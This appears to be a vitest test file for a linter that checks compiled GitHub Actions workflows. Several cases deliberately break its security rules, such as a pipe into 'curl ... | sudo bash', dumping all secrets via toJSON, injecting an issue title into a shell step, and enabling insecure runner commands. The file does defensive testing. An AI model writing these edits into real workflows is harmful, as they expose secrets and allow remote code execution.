import { describe, expect, test } from 'vitest'
import { ASKING, compiled, EXAMPLE, exampleWith } from './lines.ts'
import { brokenRules, WORKFLOW_RULES } from './workflow-rules/broken-rules.ts'

const LINE = compiled(EXAMPLE, 'factory-unit.yml')
const ROUND = compiled(EXAMPLE, 'factory-round.yml')
const DISPATCHER = compiled(EXAMPLE, 'factory.yml')
const ANSWER = compiled(ASKING, 'factory-answer.yml')

const LEDGER = compiled(exampleWith({ '  pullRequests: true': '  trace: branch' }), 'factory-ledger.yml')

const WITH_APP = compiled(
  exampleWith({ '  pullRequests: true': '  token: { app-id: FACTORY_APP, key: FACTORY_APP_KEY }' }),
  'factory-unit.yml',
)

/** The named secrets of the first call. */
const PASSED = /    secrets:\n(?:      .*\n)+/.exec(LINE)?.[0] ?? 'no such call'

const RECORD = 'record: ${{ steps.run.outputs.record }}\n'
/** Two lines of the step that sets up, and of the one that runs. */
const APPLY = '          phase: apply\n'
const SETUP = scriptLines('setup')
const RUN = scriptLines('run')

function scriptLines(phase: string): string {
  return (
    new RegExp(`        shell: bash\\n        run: .*\\n.*program" ${phase}\\n`).exec(LINE)?.[0] ??
    'no such step'
  )
}

function ids(text: string): string[] {
  return [...new Set(brokenRules(text).map(({ id }) => id))]
}

/** A compiled workflow with the first of a text replaced. */
function broken(text: string, from: string, to: string): string {
  if (!text.includes(from)) throw new Error(`the workflow has no ${from}`)
  return text.replace(from, to)
}

/** Each rule with an edit that breaks it. */
const EDITS: [code: string, from: string, to: string, base?: string][] = [
  ['permissions-top', 'permissions: {}', 'permissions: read-all'],
  ['permissions-top', 'permissions: {}', 'permissions: { contents: read }'],
  [
    'permissions-job',
    'permissions:\n      actions: read # fetches parcels of earlier attempts by run id\n      contents: read # checks out the base commit',
    'permissions: write-all',
  ],
  ['permissions-job', 'contents: read # checks out the base commit', 'deployments: read # x'],
  ['permission-reason', 'contents: read # checks out the base commit', 'contents: read'],
  ['write-place', 'contents: read # checks out the base commit', 'contents: write # x'],
  ['write-place', '/actions/sync-ledger@', '/actions/review@', LEDGER],
  ['context', 'event.repository.default_branch', 'event.head_commit.message', LEDGER],
  ['concurrency', 'cancel-in-progress: false', 'cancel-in-progress: true', LEDGER],
  ['command-rights', '  test:\n    name: test\n', '  test:\n    name: test\n    #\n'],
  ['unpinned', '@de0fac2e4500dabe0009e67214ff5f5447ce83dd', '@v6'],
  ['unpinned', '@de0fac2e4500dabe0009e67214ff5f5447ce83dd', '@de0fac2'],
  ['unpinned', './.github/workflows/factory-round.yml', 'evil/line/.github/workflows/x.yml@main'],
  ['pin-remark', ' # v6.0.2', ''],
  ['foreign-action', 'actions/checkout@', 'actions/github-script@'],
  ['foreign-action', 'acme/jidoka/actions/generate@', 'acme/jidoka/actions/other@'],
  ['app-token', 'permission-contents: write', 'permission-administration: write', WITH_APP],
  ['app-token', '/actions/deliver@', '/actions/review@', WITH_APP],
  ['checkout', 'persist-credentials: false', 'persist-credentials: true'],
  ['checkout', '        with:\n          persist-credentials: false\n', ''],
  ['cache', 'package-manager-cache: false', 'package-manager-cache: true'],
  ['cache', 'package-manager-cache: false', 'package-manager-cache: false\n          cache: npm'],
  ['tool-version', 'node-version: "24"', 'node-version: lts/*'],
  ['container', '    timeout-minutes: 15', '    container: node:24\n    timeout-minutes: 15'],
  ['secrets-inherit', PASSED, '    secrets: inherit\n'],
  ['secrets-whole', '${{ secrets.OPENAI_API_KEY }}', '${{ toJSON(secrets) }}'],
  ['secrets-whole', '${{ secrets.OPENAI_API_KEY }}', "${{ secrets['A'] }}"],
  ['secret-place', 'spec: ${{ inputs.spec }}', 'spec: ${{ secrets.OPENAI_API_KEY }}'],
  ['secret-place', SETUP, `        env:\n          A: \${{ secrets.A || secrets.B }}\n${SETUP}`],
  [
    'model-key',
    'signing-key: ${{ secrets.JIDOKA_KEY_STYLE_GATE }}',
    'api-key: ${{ secrets.OPENAI_API_KEY }}',
  ],
  [
    'model-key',
    'signing-key: ${{ secrets.JIDOKA_KEY_REVIEW }}',
    'second-api-key: ${{ secrets.OPENAI_API_KEY }}',
  ],
  ['command-secret', RECORD, 'signing-key: ${{ secrets.OPENAI_API_KEY }}\n'],
  ['command-secret', RECORD, 'other: ${{ github.token }}\n'],
  [
    'command-secret',
    "token: ${{ github.run_attempt != '1' && github.token || '' }}",
    'token: ${{ github.token }}',
  ],
  ['command-secret', APPLY, `${APPLY}          signing-key: \${{ secrets.A }}\n`],
  ['command-secret', SETUP, `        env:\n          A: \${{ github.token }}\n${SETUP}`],
  ['command-secret', RUN, `        env:\n          A: \${{ secrets.A }}\n${RUN}`],
  ['secret-environment', '    environment:\n      name: factory-generate\n      deployment: false\n', ''],
  ['script-expression', 'program" run', 'program" "${{ github.event.issue.title }}"'],
  ['script-expression', 'shell: bash', 'shell: bash ${{ inputs.spec }}'],
  ['script-shell', '        shell: bash\n', ''],
  ['runner-files', 'program" run', 'program" run >> "$GITHUB_ENV"'],
  ['insecure-commands', SETUP, `        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"\n${SETUP}`],
  ['remote-script', 'program" run', 'program" | curl -s https://example.com/i.sh | sudo bash'],
  ['plain-http', 'program" run', 'program" http://example.com/x'],
  ['trigger', 'on:\n  push:', 'on:\n  pull_request_target:\n  push:', DISPATCHER],
  ['trigger', 'on:\n  push:', 'on:\n  issue_comment:\n  push:', DISPATCHER],
  ['trigger', 'on:\n  push:', 'on:\n  workflow_run:\n  push:', DISPATCHER],
  ['trigger', 'types:\n      - created', 'types:\n      - edited', ANSWER],
  ['trigger', 'actions/answer@', 'actions/generate@', ANSWER],
  ['started-by-strangers', 'token: ${{ github.token }}', 'token: ${{ secrets.A }}', ANSWER],
  [
    'started-by-strangers',
    'persist-credentials: false',
    'persist-credentials: false\n          ref: x',
    ANSWER,
  ],
  ['context', 'token: ${{ github.token }}', 'token: ${{ github.event.comment.body }}', ANSWER],
  ['name', '\nname: "checkout: one unit"\n', '\n'],
  ['name', '    name: generate\n', ''],
  ['timeout', '    timeout-minutes: 15\n', ''],
  ['runner', 'runs-on: ubuntu-24.04', 'runs-on: ${{ inputs.spec }}'],
  ['context', 'round: ${{ inputs.round }}', 'round: ${{ inputs.title }}', ROUND],
  ['concurrency', '  cancel-in-progress: false\n', '  cancel-in-progress: true\n'],
  ['concurrency', '  group: factory-unit ${{ inputs.spec }} ${{ inputs.base }}\n', ''],
  ['condition', 'if: "!cancelled() && needs.result', 'if: "always() && needs.result'],
  ['condition', 'if: always()', 'if: |\n      !cancelled()\n      && true'],
  ['forgiven', '    name: test\n', '    name: test\n    continue-on-error: true\n'],
  ['forgiven', '      outcome: ${{ steps.run.outcome }}\n', '      outcome: ${{ steps.run.conclusion }}\n'],
  ['forgiven', '      station: test\n', '      station: ${{ steps.collect.outputs.station }}\n'],
  ['forgiven', '        id: apply\n', '        id: apply\n        continue-on-error: true\n'],
  ['needs', '    needs:\n      - spec-validate\n', '    needs:\n      - nobody\n'],
  ['defaults', 'permissions: {}', 'env:\n  KEY: x\npermissions: {}'],
  ['context', 'spec: ${{ inputs.spec }}', 'spec: ${{ github.head_ref }}'],
  ['context', 'spec: ${{ inputs.spec }}', 'spec: ${{ github.event.pull_request.title }}'],
  ['context', 'spec: ${{ inputs.spec }}', 'spec: ${{ needs.generate.outputs.text }}'],
  ['context', 'name: generate\n', 'name: ${{ github.actor }}\n'],
  ['function', 'spec: ${{ inputs.spec }}', "spec: ${{ format('{0}', inputs.spec) }}"],
  ['function', 'spec: ${{ inputs.spec }}', 'spec: ${{ github.event[inputs.spec] }}'],
  ['event-place', 'name: Plan', 'name: ${{ github.event.before }}', DISPATCHER],
  ['yaml', 'permissions: {}', 'permissions: &p {}'],
  ['yaml', 'permissions: {}', 'permissions: !!map {}'],
  ['yaml', 'permissions: {}', 'permissions: {}\npermissions: {}'],
  ['yaml', 'permissions: {}', 'permissions: {'],
]

describe('the rules of compiled workflows', () => {
  test.each(EDITS.filter(([id]) => id !== 'command-rights'))(
    'find %s after %j -> %j',
    (id, from, to, base = LINE) => {
      expect(ids(base)).toEqual([])
      expect(ids(broken(base, from, to))).toContain(id)
    },
  )

  test('find rights beside commands', () => {
    const at = LINE.indexOf('\n  test:\n')
    const edited =
      LINE.slice(0, at) +
      broken(LINE.slice(at), 'contents: read # checks out the base commit', 'pull-requests: read # x')
    expect(ids(edited)).toEqual(['command-rights'])
  })

  test('have an edit here for every one of them', () => {
    const tried = new Set(EDITS.map(([id]) => id))
    expect(WORKFLOW_RULES.map(({ id }) => id).filter((id) => !tried.has(id))).toEqual([])
  })

  test('say where a workflow breaks them', () => {
    expect(
      brokenRules(broken(DISPATCHER, '  cancel-in-progress: false', '  cancel-in-progress: true')),
    ).toEqual([
      { id: 'concurrency', at: 'concurrency', message: 'a newer run could cancel one that publishes' },
    ])
  })

  test.each([['[]'], ['text'], [''], ['jobs: 1\non: x'], ['jobs: { a: [] }'], ['{{{'], ['a: b: c']])(
    'say what is wrong with %j instead of failing',
    (text) => {
      expect(ids(text).length).toBeGreaterThan(0)
    },
  )
})
